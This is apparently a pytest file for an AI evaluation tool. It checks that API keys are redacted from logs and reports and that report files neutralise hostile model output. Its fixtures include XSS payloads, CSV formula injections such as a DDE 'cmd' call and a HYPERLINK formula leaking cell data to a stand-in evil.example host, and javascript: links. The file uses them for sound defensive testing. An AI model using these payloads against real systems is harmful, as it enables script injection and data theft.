"""Secrets and output safety: canary API keys for the subject and the judge, given the usual ways
(``<NAME>_API_KEY`` in the environment, ``-M api_key=...``), reach the servers but nothing the run
leaves behind -- even when the servers echo them back in error bodies and in ordinary answers: not
the .eval log (every member, decompressed), not Inspect's trace log, not the terminal, not
``emeval summary`` or ``emeval report``. The report escapes the model's output."""

from __future__ import annotations

import csv
import gzip
import os
import re
import subprocess
import sys
import zipfile

import pytest
from pathlib import Path

from inspect_ai.log import read_eval_log

from doubles.faulty_loopback import judged_answer, last_user_text, scripted_judge, scripted_verdicts
from doubles.loopback import HTTPError

if sys.version_info < (3, 14):
    import zipfile_zstd  # noqa: F401  (Inspect's .eval members are zstd-compressed; Inspect depends on it)

ROOT = Path(__file__).resolve().parents[2]
SUBJECT_KEY = "sk-canary-subject-7f3a9c2e51d84b06a1"
JUDGE_KEY = "sk-canary-judge-0b9e4d1a7c3f5e28b2"
ARG_KEY = "sk-canary-model-arg-5d2c8e0f9a1b7364c3"  # given as -M api_key=..., so it overrides SUBJECT_API_KEY
CANARIES = [SUBJECT_KEY, JUDGE_KEY, ARG_KEY, "7f3a9c2e51d84b06", "0b9e4d1a7c3f5e28", "5d2c8e0f9a1b7364"]
MARKUP = '<script>alert("pwned")</script><img src=x onerror=alert(1)>'


def subject_policy(body: dict):
    question = last_user_text(body)
    if question.startswith("Question 0?"):
        return f"Here is my plan: {MARKUP}"
    if question.startswith("Question 1?"):  # this one fails, echoing the key it was sent (some gateways do)
        return HTTPError(400, {"error": {"message": f"subject refuses question 1 for key {ARG_KEY}",
                                         "type": "invalid_request_error"}})
    if question.startswith("Question 3?"):  # a successful answer that echoes both keys
        return f"Answer 3. My key is {ARG_KEY} and the env one is {SUBJECT_KEY}."
    return f"Answer {question.split('?')[0].removeprefix('Question ')}."


def judge_policy(body: dict):
    if judged_answer(body)[1] == "Answer 2.":  # a judge error for this answer, also kept in the log
        return HTTPError(401, {"error": {"message": f"Incorrect API key provided: {JUDGE_KEY}",
                                         "code": "invalid_api_key"}})
    metric, answer = judged_answer(body)
    if answer.startswith("Answer 3."):  # the answer that echoed the keys (redacted before the judge saw it?)
        return scripted_verdicts(metric, "Answer 3.")
    return scripted_judge(body)


def leaks(data: bytes) -> list[str]:
    return [c for c in CANARIES if c.encode() in data]


def test_canary_keys_never_leave_the_process_and_reports_escape_model_output(loopback, tmp_path):
    subject, judge = loopback(subject_policy), loopback(judge_policy)
    questions = tmp_path / "q.yaml"
    questions.write_text("".join(f"- id: q{i}\n  paraphrases: ['Question {i}? <b>bold</b> & more']\n" for i in range(4)))
    data_home = tmp_path / "data"  # Inspect's trace log and sample buffer land here
    env = {**os.environ, "SUBJECT_BASE_URL": subject.base_url, "SUBJECT_API_KEY": SUBJECT_KEY,
           "JUDGE_BASE_URL": judge.base_url, "JUDGE_API_KEY": JUDGE_KEY, "XDG_DATA_HOME": str(data_home)}
    log_dir = tmp_path / "logs"
    done = subprocess.run(
        [sys.executable, "-m", "inspect_ai", "eval", "evals/free_form.py", "--model", "openai-api/subject/m",
         "-M", f"api_key={ARG_KEY}", "--model-role", "grader=openai-api/judge/j", "-T", f"questions={questions}", "--no-fail-on-error",
         "--log-dir", str(log_dir), "--display", "plain"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=150,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    # the keys were used: each server saw its own key, as a bearer token
    assert set(subject.credentials) == {f"Bearer {ARG_KEY}"}
    assert set(judge.credentials) == {f"Bearer {JUDGE_KEY}"}

    [log_file] = log_dir.glob("*.eval")
    log = read_eval_log(str(log_file))
    errors = {s.metadata["question_id"]: s.error.message for s in log.samples if s.error}
    assert errors.keys() == {"q1", "q2"}, errors  # the errors are in the log, so the grep below covers them
    assert "subject refuses question 1" in errors["q1"] and f"at {judge.base_url} failed" in errors["q2"]
    assert "[redacted api_key of subject/m]" in errors["q1"]  # what was there is said, never what it was
    [echoed] = [s for s in log.samples if s.metadata["question_id"] == "q3"]
    assert echoed.output.completion == (
        "Answer 3. My key is [redacted api_key of subject/m] and the env one is [redacted SUBJECT_API_KEY].")

    with zipfile.ZipFile(log_file) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    assert any(name.startswith("samples/") for name in members)
    assert {name: leaks(data) for name, data in members.items() if leaks(data)} == {}
    assert leaks(log_file.read_bytes()) == []
    traces = list((data_home / "inspect_ai" / "traces").glob("trace-*"))
    assert traces, "Inspect wrote no trace log where expected"
    for trace in traces:
        text = gzip.decompress(trace.read_bytes()) if trace.suffix == ".gz" else trace.read_bytes()
        assert b"/v1/chat/completions" in text and leaks(text) == [], trace
    assert leaks((done.stdout + done.stderr).encode()) == []

    from typer.testing import CliRunner

    from emeval.cli.app import app

    summary = CliRunner().invoke(app, ["summary", str(log_file)])
    assert "misaligned rate" in summary.output and leaks(summary.output.encode()) == []

    out = tmp_path / "report"
    report = CliRunner().invoke(app, ["report", str(log_file), "--out", str(out)])
    assert report.exit_code == 0, report.output
    files = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    assert {"index.html", "report.md", "samples.csv", "summary.json"} <= files.keys()
    assert {name: leaks(data) for name, data in files.items() if leaks(data)} == {}
    html = files["index.html"].decode()
    assert "alert(&#34;pwned&#34;)" in html or "alert(&quot;pwned&quot;)" in html  # the answer is shown ...
    assert "<script>alert" not in html and "<img src=x" not in html  # ... as text, never as markup
    assert "<b>bold</b>" not in html and "&lt;b&gt;bold&lt;/b&gt;" in html


HOSTILE_ANSWERS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",  # after leading whitespace
    "＝1+1",  # full-width equals sign
    "\t=1+1",
    "\r=1+1",
    "-0.5",  # a plain number: stays as it is
    "[click me](javascript:alert(1)) ![img](http://evil.example/x.png) <javascript:alert(2)> <b>raw</b>",
    "\x1b[31mred\x1b[0m a|b \u200bzero\u200dwidth \u202eevil\u202c",
]
HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example","x")', "+1+1", "-1+1", "@cmd", "<script>alert(1)</script>",
    "[a](javascript:alert(1))", "![i](http://evil.example/i.png)", "\x1b[31mq", "q\u200b7", "\u202eq9",
]
INVISIBLE = ["\x1b", "\u200b", "\u200d", "\u202e", "\u202c", "\r"]


def hostile_subject(body: dict):
    return HOSTILE_ANSWERS[int(last_user_text(body).split("?")[0].removeprefix("Question "))]


def hostile_judge(body: dict):
    metric, answer = judged_answer(body)
    return scripted_verdicts(metric, f"Answer {HOSTILE_ANSWERS.index(answer) if answer in HOSTILE_ANSWERS else 0}.")


def test_report_files_neutralise_hostile_answers_and_question_ids(loopback, tmp_path):
    """A real loopback run whose answers are formulas, links, markup and invisible characters, with
    its question ids then made hostile in the log (as a log from elsewhere may have them): every file
    `emeval report` writes shows them as inert text."""
    from inspect_ai.log import write_eval_log

    subject, judge = loopback(hostile_subject), loopback(hostile_judge)
    questions = tmp_path / "q.yaml"
    questions.write_text("".join(f"- id: h{i}\n  paraphrases: ['Question {i}?']\n" for i in range(len(HOSTILE_ANSWERS))))
    env = {**os.environ, "SUBJECT_BASE_URL": subject.base_url, "SUBJECT_API_KEY": "unused-subject-key",
           "JUDGE_BASE_URL": judge.base_url, "JUDGE_API_KEY": "unused-judge-key"}
    done = subprocess.run(
        [sys.executable, "-m", "inspect_ai", "eval", "evals/free_form.py", "--model", "openai-api/subject/m",
         "--model-role", "grader=openai-api/judge/j", "-T", f"questions={questions}",
         "--log-dir", str(tmp_path / "logs"), "--display", "none"],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=150,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    [log_file] = (tmp_path / "logs").glob("*.eval")
    log = read_eval_log(str(log_file))
    assert log.status == "success" and len(log.samples) == len(HOSTILE_ANSWERS)
    assert sorted(s.output.completion for s in log.samples) == sorted(HOSTILE_ANSWERS)
    for sample in log.samples:
        sample.metadata["question_id"] = HOSTILE_IDS[int(sample.metadata["question_id"].removeprefix("h"))]
    write_eval_log(log, str(log_file))

    from typer.testing import CliRunner

    from emeval.cli.app import app

    out = tmp_path / "report"
    report = CliRunner().invoke(app, ["report", str(log_file), "--out", str(out)])
    assert report.exit_code == 0, report.output
    texts = {p.name: p.read_text(encoding="utf-8") for p in out.iterdir() if p.suffix in (".csv", ".md", ".html", ".json")}
    for name, text in texts.items():
        assert not [c for c in INVISIBLE if c in text], name  # shown as visible escapes instead
    assert "\\x1b[31mq" in texts["index.html"] and "q\\u200b7" in texts["index.html"]

    with open(out / "samples.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    cells = [cell for row in rows for cell in row.values() if cell]
    dangerous = [c for c in cells if c.lstrip()[:1] in "=+-@＝＋－＠" and c not in ("-0.5",)]
    assert dangerous == []  # every would-be formula starts with ' (or is a plain number)
    answers = {row["answer"] for row in rows}
    assert "-0.5" in answers and "'  =1+1" in answers and "'＝1+1" in answers and "'\t=1+1" in answers
    assert {row["question_id"] for row in rows} >= {"'" + HOSTILE_IDS[0], "'+1+1", "'-1+1", "'@cmd"}
    assert all(float(row["aligned"]) >= 0 for row in rows if row.get("aligned"))  # numbers stay numbers

    md = texts["report.md"]
    assert not re.search(r"(?<!\\)\]\(", md) and "<javascript:" not in md  # no link or image syntax left
    assert "<script>" not in md and "<b>raw</b>" not in md
    assert "\\[a\\](javascript:alert(1))" in md  # shown, escaped
    html = texts["index.html"]
    assert "<script>alert(1)" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert 'href="javascript:' not in html


def test_redact_hides_configured_secrets_but_not_trivial_values(monkeypatch):
    from emeval.sanitize.redact import MIN_SECRET_LENGTH, add_secret, redact, redact_data

    monkeypatch.setenv("MY_SERVICE_TOKEN", "tok-abcdef123456")
    monkeypatch.setenv("TINY_API_KEY", "x" * (MIN_SECRET_LENGTH - 1))  # too short to be a secret
    monkeypatch.setenv("SERVICE_URL", "tok-abcdef")  # not a *_API_KEY / *_TOKEN / *_SECRET name
    add_secret("arg-key-99887766", "api_key of m")
    text = "a tok-abcdef123456 b xxx c arg-key-99887766 d tok-abcdef"
    assert redact(text) == "a [redacted MY_SERVICE_TOKEN] b xxx c [redacted api_key of m] d tok-abcdef"
    assert redact_data({"k tok-abcdef123456": ["arg-key-99887766", 3]}) == {
        "k [redacted MY_SERVICE_TOKEN]": ["[redacted api_key of m]", 3]}


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("+1+1", "'+1+1"), ("-0.5", "-0.5"), ("-1e-3", "-1e-3"), ("-A1", "'-A1"),
    ("@SUM(A1)", "'@SUM(A1)"), ("  =1", "'  =1"), ("＝1", "'＝1"), ("－1", "'－1"), ("\t=1", "'\t=1"),
    ("\r=1", "\\x0d=1"),
    ("plain text", "plain text"), ("a\x1bb\u202ec\u200b", "a\\x1bb\\u202ec\\u200b"),
    ("line\nbreak", "line\nbreak"), (-0.5, -0.5), (3, 3), (None, None),
])
def test_csv_cell_neutralises_formulas_and_keeps_numbers(value, expected):
    from emeval.sanitize.safe_output import csv_cell

    assert csv_cell(value) == expected


def test_md_text_escapes_links_markup_pipes_and_control_characters():
    from emeval.sanitize.safe_output import md_text

    assert md_text("[a](javascript:alert(1))") == "\\[a\\](javascript:alert(1))"
    assert md_text("![i](x.png) <javascript:x> <b>b</b>") == "!\\[i\\](x.png) &lt;javascript:x&gt; &lt;b&gt;b&lt;/b&gt;"
    assert md_text("a|b\nfree_form \\") == "a\\|b free_form \\\\"
    assert md_text("\x1b[31m\u202e") == "\\\\x1b\\[31m\\\\u202e"
